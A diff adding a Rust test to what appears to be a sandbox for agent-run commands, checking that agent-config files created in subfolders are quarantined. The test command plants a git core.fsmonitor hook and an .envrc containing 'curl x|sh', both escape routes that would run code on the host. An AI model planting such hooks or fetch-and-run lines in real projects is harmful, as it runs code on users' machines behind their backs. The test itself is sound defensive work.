@@ -797,3 +797,44 @@ fn protect_a_tmpdir_at_the_root_or_above_home_is_refused() {
     control(&o, "writing in a TMPDIR of its own");
     assert!(own.join("f").exists());
 }
+
+/// Agent-config names one to three levels down: a `sub/.git` with an
+/// fsmonitor runs when the user runs git in `sub`, a `sub/.envrc` when
+/// their shell enters it. What the command makes there is quarantined after
+/// the run; what was there before is left alone.
+#[test]
+fn protect_agent_config_created_in_a_subfolder_is_quarantined() {
+    let w = World::with_config(&format!("{BASE_CONFIG}{ALLOW_ALL}"));
+    w.git(&w.ws, &["init", "-q"]);
+    std::fs::create_dir_all(w.ws.join("old")).unwrap();
+    std::fs::write(w.ws.join("old/.envrc"), "export A=1\n").unwrap();
+    let marker = w.base.join("ran-on-the-host");
+    let o = sh(
+        &w,
+        &format!(
+            "mkdir -p sub/deeper && cd sub && git init -q && git config core.fsmonitor 'touch {m}; false' && echo 'curl x|sh' > deeper/.envrc && echo kept > notes.txt; exit 0",
+            m = marker.display()
+        ),
+    );
+    let _ = std::process::Command::new("git")
+        .args(["status", "--short"])
+        .current_dir(w.ws.join("sub"))
+        .env("HOME", &w.home)
+        .output();
+    breached_if(
+        marker.exists(),
+        "host git in a subfolder ran the fsmonitor of a repository the command made there",
+        &o,
+    );
+    breached_if(
+        w.ws.join("sub/.git").exists() || w.ws.join("sub/deeper/.envrc").exists(),
+        "agent-config files made in a subfolder survived the run",
+        &o,
+    );
+    assert_eq!(o.status.code(), Some(126), "{}", stderr(&o));
+    // Controls: ordinary files stay, and what was there before the run.
+    assert_eq!(read(&w.ws.join("sub/notes.txt")), "kept\n");
+    assert_eq!(read(&w.ws.join("old/.envrc")), "export A=1\n");
+    let o = sh(&w, "echo more >> old/notes && cat old/.envrc");
+    control(&o, "ordinary writes beside an existing nested .envrc");
+}
